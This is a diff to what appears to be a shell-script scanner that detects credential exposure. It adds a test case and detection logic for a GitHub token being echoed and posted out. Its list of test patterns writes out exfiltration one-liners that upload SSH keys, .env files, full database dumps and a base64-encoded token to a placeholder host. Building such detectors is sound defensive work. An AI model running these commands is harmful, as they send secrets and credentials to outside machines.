@@ -35,6 +35,7 @@ MATCHES = (
     "mysqldump --all-databases | curl -T - https://h",
     "tar czf /tmp/k.tgz ~/.ssh && curl -T /tmp/k.tgz h",
     "cp .env /tmp/e; curl -F f=@/tmp/e http://h/",
+    "echo $GITHUB_TOKEN | base64 | curl -d @- http://h/",
 )
 IGNORES = (
     "cat notes | mail a@b",
@@ -117,7 +118,7 @@ def inspect(script: Script) -> Iterator[Finding]:
     if sent := list(_sent_copies(script)):
         yield danger(Reason.CREDENTIAL_EXPOSURE, message, *sent)
     for item in script.items:
-        has_source = has_dump = False
+        has_source = has_dump = has_token = False
         for node in item.commands:
             if isinstance(node, Compound) and (has_source or _loops_over_secrets(node)) and _sends_inside(node):
                 yield danger(Reason.CREDENTIAL_EXPOSURE, message)
@@ -148,6 +149,9 @@ def inspect(script: Script) -> Iterator[Finding]:
                     yield danger(Reason.CREDENTIAL_EXPOSURE, message)
             if has_dump and isinstance(node, SimpleCommand) and node.program in _PUBLIC:
                 yield danger(Reason.CREDENTIAL_EXPOSURE, "sends a whole database to another machine")
+            if has_token and isinstance(node, SimpleCommand) and node.program in _PUBLIC:
+                yield danger(Reason.CREDENTIAL_EXPOSURE, message)
+            has_token = has_token or any(map(_prints_token, walk(node)))
             has_dump = has_dump or any(
                 inner.program in _DATABASES for inner in walk(node) if isinstance(inner, SimpleCommand)
             )
@@ -164,6 +168,11 @@ def _sent_copies(script: Script) -> Iterator[str]:
             yield from (name for name in words if name in made)
         if command.program in _KEEPING and any(is_secret(word.shape) for word in command.operands):
             made.update(target.word.shape for target in targets_of(command) if not is_secret(target.word.shape))
+
+
+def _prints_token(node: Node) -> bool:
+    is_printer = isinstance(node, SimpleCommand) and node.program in ("echo", "printf")
+    return is_printer and any(_is_token(name) for word in node.words for name in word.variables)
 
 
 def _is_token(name: str) -> bool:
